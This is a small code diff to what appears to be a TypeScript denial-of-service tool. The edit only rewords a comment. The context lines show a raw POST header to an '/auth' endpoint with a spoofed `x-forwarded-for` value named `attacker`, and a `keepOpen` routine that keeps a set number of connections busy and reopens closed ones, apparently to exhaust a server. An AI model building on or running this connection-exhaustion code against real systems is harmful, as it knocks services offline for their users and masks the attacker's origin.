@@ -10,7 +10,7 @@ const postHead = ({ host }: Target, length: number) =>
   `POST /auth HTTP/1.1\r\nhost: ${host}\r\norigin: http://${host}\r\nx-forwarded-for: ${attacker}\r\n` +
   `content-type: multipart/form-data; boundary=b\r\ncontent-length: ${length}\r\n\r\n`;
 
-/** Keeps so many connections busy; one that was closed is opened again. */
+/** Keeps a fixed number of connections busy; one that was closed is opened again. */
 function keepOpen(count: number, target: Target, begin: (socket: Socket) => void): () => void {
   const sockets = new Set<Socket>();
   let isStopped = false;
